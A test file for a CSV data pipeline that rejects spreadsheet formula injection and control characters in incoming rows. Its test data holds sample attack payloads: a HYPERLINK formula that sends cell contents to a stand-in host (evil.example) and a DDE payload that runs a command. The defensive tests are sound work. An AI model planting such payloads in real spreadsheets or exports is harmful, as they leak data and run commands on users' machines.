/**
 * Text a spreadsheet would run, and control characters, are rejected when raw rows are read (issue 17), by the one
 * rule in src/core/cell-safety.ts: in the pipeline (the build), in `npm run validate` and in `npm run intake` alike,
 * each with `path:LINE: column "…": what is wrong, what was expected`, the row counted as rejected, nothing built.
 * Numeric fields are not text: a negative number is judged by its range, never as a formula. A huge field is cut
 * short in the message. Every real raw row passes (a test below reads all of data/raw).
 */
import { spawnSync } from "node:child_process";
import { cpSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { formulaRisk, unsafeCellProblem } from "../../src/core/cell-safety.ts";
import { clipText, formatProblem, quoteValue } from "../../src/core/problems.ts";
import { toCsv } from "../../src/pipeline/csv-write.ts";
import { loadMethod } from "../../src/pipeline/read-method.ts";
import { loadGazetteer, parseProvinceAliases } from "../../src/pipeline/places.ts";
import { runPipeline, type RawFile } from "../../src/pipeline/pipeline.ts";
import { readFactFile } from "../../src/pipeline/read-facts.ts";
import { listRawFiles } from "../../src/pipeline/raw-files.ts";
import { bytes, ROOT, runScript, tempDir } from "./helpers.ts";

const gazetteer = loadGazetteer(ROOT);
const method = loadMethod(join(ROOT, "data/method"));
const rounds: RawFile = { path: "rounds.csv", bytes: readFileSync(join(ROOT, "tests/fixtures/golden/raw/rounds.csv")) };
const AWARDS = "year,predikat,name_as_published,province_as_published,source_url,inferred,note";
const REGULATIONS = "name_as_published,province_as_published,status,kind,topic,number,year,title,source_url,note";
const URL = "https://example.org/berita";
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Kota Layak Anak")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
const csvField = (s: string) => `"${s.replace(/"/g, '""')}"`;

function run(content: string) {
  const file = { path: "a.csv", bytes: bytes(content) };
  const result = runPipeline({ files: [rounds, file], gazetteer, version: "test", method });
  const read = readFactFile(file.path, file.bytes);
  return { data: result.data, messages: result.problems.map(formatProblem), read };
}

function rejects(content: string, expected: RegExp) {
  const { data, messages, read } = run(content);
  expect(data).toBeNull();
  expect(
    messages.some((m) => expected.test(m)),
    `got:\n${messages.join("\n")}`,
  ).toBe(true);
  expect(read.file?.rows ?? []).toEqual([]); // nothing of the row reaches a lookup or a download
  expect(read.rejected).toBe(read.read);
  return messages;
}

describe("text a spreadsheet would run is rejected at validation", () => {
  it("a regulation title =HYPERLINK(…)", () =>
    rejects(
      `${REGULATIONS}\nKota Surabaya,Jawa Timur,enacted,perda,kla,4,2021,${csvField(HYPERLINK)},${URL},\n`,
      /^a\.csv:2: column "title": "=HYPERLINK\(.*" begins with "=", which a spreadsheet would run as a formula, expected text that does not begin with = \+ - or @/,
    ));
  it("a note @SUM(1+1)*cmd|' /C calc'!A0", () =>
    rejects(
      `${AWARDS}\n2023,Utama,Kota Surabaya,Jawa Timur,${URL},no,${DDE}\n`,
      /^a\.csv:2: column "note": "@SUM\(1\+1\)\*cmd\|' \/C calc'!A0" begins with "@"/,
    ));
  it("a place name +Kota Kupang: never resolved, never published", () =>
    rejects(
      `${AWARDS}\n2023,Pratama,+Kota Kupang,Nusa Tenggara Timur,${URL},no,\n`,
      /^a\.csv:2: column "name_as_published": "\+Kota Kupang" begins with "\+".*write "Kota Kupang", not "\+Kota Kupang"/,
    ));
  it("a note -2+3 (a formula, though it starts like a number)", () =>
    rejects(
      `${AWARDS}\n2023,Utama,Kota Surabaya,Jawa Timur,${URL},no,-2+3\n`,
      /column "note": "-2\+3" begins with "-"/,
    ));
  it("a leading = after spaces (trimmed away by the reader, run by some spreadsheets)", () =>
    rejects(
      `${AWARDS}\n2023,Utama,Kota Surabaya,Jawa Timur,${URL},no,"  =1+1"\n`,
      /column "note": " {2}=1\+1" begins/,
    ));
  it("a leading tab", () =>
    rejects(
      `${AWARDS}\n2023,Utama,Kota Surabaya,Jawa Timur,${URL},no,"\t=cmd"\n`,
      /^a\.csv:2: column "note": "\\t=cmd" contains a tab at character 1, expected text without control characters/,
    ));
  it("a leading carriage return inside quotes", () =>
    rejects(
      `${AWARDS}\n2023,Utama,Kota Surabaya,Jawa Timur,${URL},no,"\r@x"\n`,
      // The reader turns CR into a line break first (mixed line ends); either way the cell is refused.
      /^a\.csv:2: column "note": "\\n@x" contains a line break at character 1/,
    ));
});

describe("control characters are rejected anywhere in any field", () => {
  it("a NUL byte inside a place name (Kota Kup\\0ang)", () =>
    rejects(
      `${AWARDS}\n2023,Pratama,Kota Kup\0ang,Nusa Tenggara Timur,${URL},no,\n`,
      /^a\.csv:2: column "name_as_published": "Kota Kup\\u0000ang" contains a NUL byte at character 9, expected text without control characters/,
    ));
  it("DEL and a C1 control (U+0085) in a note, and a NUL in a year", () => {
    const messages = rejects(
      `${AWARDS}\n2023,Utama,Kota Surabaya,Jawa Timur,${URL},no,a\u007fb\n20\u000023,Utama,Kota Surabaya,Jawa Timur,${URL},no,c\u0085\n`,
      /^a\.csv:2: column "note": .* contains a DEL character at character 2/,
    );
    expect(messages).toContainEqual(expect.stringMatching(/^a\.csv:3: column "year": .* contains a NUL byte/));
    expect(messages).toContainEqual(
      expect.stringMatching(/^a\.csv:3: column "note": .* contains the control character U\+0085/),
    );
  });
  it("a line break inside a quoted cell", () =>
    rejects(
      `${AWARDS}\n2023,Utama,Kota Surabaya,Jawa Timur,${URL},no,"two\nlines"\n`,
      /^a\.csv:2: .* a line break at/,
    ));
});

describe("what stays allowed", () => {
  it("hyphens, signs and at-signs inside text, URLs with - and =, RTL marks and markup (escaped by the pages)", () => {
    const note = `Perda 4/2021 — "Kabupaten/Kota Layak Anak" <b>tebal</b> \u200fمرحبا\u200f; kontak: a@b.id; -2 SD; +62`;
    const { data, messages } = run(
      `${AWARDS}\n2023,Utama,Kota Surabaya,Jawa Timur,https://example.org/a-b?x=1&y=-2,no,${csvField(note)}\n`,
    );
    expect(messages).toEqual([]);
    const source = data?.awards.find((a) => a.placeCode === "35.78")?.sources[0];
    expect(source?.note).toBe(note);
  });
  it("a negative number in a numeric field is judged as a number (its range), not as a formula", () =>
    rejects(
      `indicator_id,indicator_name_id,unit,year,area_level,area_name_as_published,value,source_title,source_url\nstunting_balita,Stunting,percent,2022,province,Aceh,"-1,5",Databoks,${URL}\n`,
      /^a\.csv:2: column "value": -1\.5 is outside 0–100, expected a percentage/,
    ));
  it("every row of data/raw (nothing real is rejected)", () => {
    for (const f of listRawFiles(join(ROOT, "data/raw"), ROOT)) {
      const r = readFactFile(f.path, f.bytes);
      expect(r.problems, f.path).toEqual([]);
    }
  });
});

describe("an echoed field is cut short", () => {
  it("a 100,000-character note: the message shows 60 characters and the length", () => {
    const huge = `=${"x".repeat(99_999)}`;
    const messages = rejects(`${AWARDS}\n2023,Utama,Kota Surabaya,Jawa Timur,${URL},no,${huge}\n`, /column "note"/);
    const line = messages.find((m) => m.includes('column "note"'))!;
    expect(line).toContain(`"=${"x".repeat(59)}…" (100000 characters)`);
    expect(line.length).toBeLessThan(400);
  });
  it("a 100,000-character place name that is plain text (not resolved), cut the same way", () => {
    const { messages } = run(`${AWARDS}\n2023,Utama,${"K".repeat(100_000)},Jawa Timur,${URL},no,\n`);
    expect(messages).toHaveLength(1);
    expect(messages[0]).toMatch(/^a\.csv:2: place not resolved: no place named "K{60}…" \(100000 characters\)/);
    expect(messages[0]!.length).toBeLessThan(600);
  });
  it("quoteValue and clipText keep short values whole and never split a surrogate pair", () => {
    expect(quoteValue("Kota Kupang")).toBe('"Kota Kupang"');
    expect(quoteValue("a\u0000b")).toBe('"a\\u0000b"');
    const emoji = `${"a".repeat(59)}😀${"b".repeat(40)}`;
    expect(quoteValue(emoji)).toBe(`"${"a".repeat(59)}…" (101 characters)`);
    expect(clipText("x".repeat(81))).toBe(`${"x".repeat(60)}… (81 characters)`);
  });
});

describe("the rule itself", () => {
  it("flags formula starts, passes plain numbers and ordinary text", () => {
    for (const bad of ["=1+1", "+Kota Kupang", "-x", "@SUM(A1)", "\t1", "\r1", " =1", "-", "+", "-1-1", "--1"])
      expect(formulaRisk(bad), JSON.stringify(bad)).not.toBeNull();
    for (const ok of ["-1.5", "-1,5", "+2", "-1.234,5", "-0", ".5", "-.5", "Kota Kupang", "a=b", "", "1-2", "x@y"])
      expect(formulaRisk(ok), JSON.stringify(ok)).toBeNull();
    expect(unsafeCellProblem("Kota\u0085Kupang")).toMatch(/U\+0085/);
    expect(unsafeCellProblem("Kota Kupang")).toBeNull();
  });
  it("the CSV writer refuses such a cell instead of writing it, and writes a negative number", () => {
    expect(() => toCsv(["note"], [["=HYPERLINK(1)"]])).toThrow(/begins with "="/);
    expect(() => toCsv(["=x"], [])).toThrow(/begins with "="/);
    expect(toCsv(["value", "label"], [[-1.5, "-1,5"]])).toBe('value,label\n-1.5,"-1,5"\n');
  });
});

describe("validate and intake apply the same rule", { timeout: 60_000 }, () => {
  it("npm run validate: +Kota Kupang exits 1 with path:LINE and the row accounted as rejected", () => {
    const file = join(tempDir("unsafe"), "kupang.csv");
    writeFileSync(file, `${AWARDS}\n2025,Pratama,+Kota Kupang,Nusa Tenggara Timur,${URL},no,\n`);
    const r = runScript("validate.ts", [file]);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/kupang\.csv:2: column "name_as_published": "\+Kota Kupang" begins with "\+"/);
    expect(r.stdout).toContain("kupang.csv: INVALID (awards format; read 1 = accepted 0 + rejected 1)");
  });
  it("npm run intake: a =HYPERLINK title is refused at the form's title line, nothing written", () => {
    const before = readFileSync(join(ROOT, "data/raw/regulations.csv"));
    const form = readFileSync(join(ROOT, "tests/fixtures/intake/regulation.md"), "utf8").replace(
      "Kabupaten Layak Anak\n",
      `${HYPERLINK}\n`,
    );
    const path = join(tempDir("unsafe-intake"), "form.md");
    writeFileSync(path, form);
    const titleLine = form.split("\n").findIndex((l) => l.startsWith("### Judul")) + 1;
    const r = spawnSync(process.execPath, [join(ROOT, "scripts/intake.ts"), path, "--dry-run"], {
      cwd: ROOT,
      encoding: "utf8",
    });
    expect(r.status).toBe(1);
    expect(r.stderr).toContain(`form.md:${titleLine}: column "title": ${JSON.stringify(HYPERLINK)} begins with "="`);
    expect(r.stdout).toContain("INVALID (rows: read 1 = accepted 0 + rejected 1)");
    expect(readFileSync(join(ROOT, "data/raw/regulations.csv"))).toEqual(before);
  });
});

describe("the maintainer tables (data/method, data/places) follow the same rule", () => {
  it("a method table with a formula in a text cell stops the build with path:LINE (the tables are published as they are)", () => {
    const dir = tempDir("unsafe-method");
    for (const name of readdirSync(join(ROOT, "data/method"))) cpSync(join(ROOT, "data/method", name), join(dir, name));
    const clusters = readFileSync(join(dir, "clusters.csv"), "utf8").replace(
      ",Kelembagaan,",
      `,${csvField(HYPERLINK)},`,
    );
    writeFileSync(join(dir, "clusters.csv"), clusters);
    expect(() => loadMethod(dir)).toThrow(/clusters\.csv:2: column "name_id": .* begins with "="/);
  });
  it("a place alias beginning with @ is refused with path:LINE", () => {
    const { problems } = parseProvinceAliases(
      "data/places/province-aliases.csv",
      bytes(`alias,province_code,reason\n${csvField(DDE)},53,a test\n`),
      new Set(["53"]),
    );
    expect(problems.map(formatProblem).join("\n")).toMatch(
      /province-aliases\.csv:2: column "alias": .* begins with "@"/,
    );
  });
  it("every real maintainer table passes", () => {
    expect(() => loadMethod(join(ROOT, "data/method"))).not.toThrow();
    expect(() => loadGazetteer(ROOT)).not.toThrow();
  });
});
